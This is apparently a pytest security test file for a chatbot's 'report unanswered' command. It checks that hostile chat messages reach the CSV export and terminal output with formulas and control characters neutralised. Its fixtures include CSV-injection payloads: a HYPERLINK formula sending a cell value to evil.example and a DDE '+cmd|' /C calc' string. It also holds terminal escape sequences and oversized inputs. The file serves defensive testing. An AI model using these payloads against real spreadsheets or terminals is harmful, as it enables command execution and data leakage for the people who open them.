"""M5: hostile messages sent to the real servers, then `citybot report unanswered` on their store.

The servers are the launcher as `make run` starts it (`launched`, tests/security/conftest.py);
the messages go through REST, the report reads the conversations.db the Rasa server wrote,
as staff would (TRACKER_STORE_URL). Whatever each channel cleans or refuses on the way in, the
CSV must hold no formula and no control character, and the terminal no escape sequence.
(Named test_report_safety.py: tests/test_report.py already holds the module name test_report.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import secrets
import subprocess

import pytest
from servers import REPO_ROOT, http_post_json

pytestmark = [pytest.mark.model, pytest.mark.server]

CITYBOT = REPO_ROOT / ".venv" / "bin" / "citybot"
#: (what a user sends, a fragment the report must still show once it is made safe)
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A2,"Click") zqxhyperlink', "zqxhyperlink"),
    ("+cmd|' /C calc'!A0 zqxdde", "zqxdde"),
    ("@SUM(1+1) zqxat", "zqxat"),
    ("-2+3 zqxminus", "zqxminus"),
    ("\x1b]0;pwned\x07\x1b[2Jzqxescape", "zqxescape"),
    ("zqxsurrogate \ud800 Lagos", "zqxsurrogate"),
    ("zqxhuge " + "blah " * 1800, "zqxhuge"),  # 9 kB: under any channel's text limit
]
HUGE = "zqxmegabyte " + "blah " * 200_000  # 1 MB: stored whole, cut, or refused with 413
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report(launched, tmp_path_factory) -> dict[str, object]:
    """Send the hostile messages, then run the report (every turn listed: --min-confidence 1.01)."""
    token = secrets.token_hex(4)
    for index, (message, _) in enumerate(HOSTILE):
        status, body = http_post_json(
            launched.url("RASA_PORT", "/webhooks/rest/webhook"),
            {"sender": f"report-{token}-{index}", "message": message},
            timeout=120,
        )
        assert status == 200, body
    status, _ = http_post_json(  # a client's metadata is stored: a "language" that is no code
        launched.url("RASA_PORT", "/webhooks/rest/webhook"),
        {"sender": f"report-{token}-meta", "message": "zqxmetadata", "metadata": {"language": {"a": [1]}}},
        timeout=120,
    )
    assert status in (200, 400)  # 400: a channel may refuse such metadata
    metadata_accepted = status == 200
    status, _ = http_post_json(
        launched.url("RASA_PORT", "/webhooks/rest/webhook"),
        {"sender": f"report-{token}-huge", "message": HUGE},
        timeout=120,
    )
    assert status in (200, 413)
    out_csv = tmp_path_factory.mktemp("report") / "unanswered.csv"
    today = dt.datetime.now(dt.timezone.utc).date()
    result = subprocess.run(
        [str(CITYBOT), "report", "unanswered", "--since", str(today), "--min-confidence", "1.01"]
        + ["--examples", "50", "--csv", str(out_csv)],
        capture_output=True,
        timeout=300,
        env={**os.environ, "TRACKER_STORE_URL": launched.env["TRACKER_STORE_URL"]},
    )
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    raw = out_csv.read_bytes()
    return {
        "stdout": result.stdout.decode("utf-8"),  # strict: must be valid UTF-8
        "raw": raw,
        "rows": list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))),
        "huge_accepted": status == 200,
        "metadata_accepted": metadata_accepted,
    }


def test_every_hostile_message_is_in_the_csv_and_no_cell_is_a_formula(report):
    rows = report["rows"]
    assert rows[0][:3] == ["reason", "reason_label", "asked"]
    cells = [value for row in rows[1:] for value in row]
    for value in cells:
        assert not value.startswith(FORMULA_START), value
        assert not FORBIDDEN.search(value), repr(value)
        assert len(value) <= 1001
    everything = "\n".join(cells)
    for _, fragment in HOSTILE:
        assert fragment in everything, f"{fragment} missing from the report"
    if report["huge_accepted"]:
        assert "zqxmegabyte" in everything
    if report["metadata_accepted"]:
        assert "zqxmetadata" in everything
    assert any(value.startswith("'=HYPERLINK(") for value in cells)  # shown as typed, as text


def test_the_terminal_report_holds_no_control_character_and_no_huge_line(report):
    text = report["stdout"]
    assert not FORBIDDEN.search(text), [line for line in text.splitlines() if FORBIDDEN.search(line)]
    assert max(len(line) for line in text.splitlines()) < 1000
    for _, fragment in HOSTILE:
        assert fragment in text
    assert "\x1b" not in text and "\x07" not in text


def test_the_report_never_shows_the_raw_surrogate_or_escape_bytes(report):
    raw: bytes = report["raw"]
    assert b"\x1b" not in raw and b"\xed\xa0\x80" not in raw  # ESC, an encoded lone surrogate
    raw.decode("utf-8")  # strict
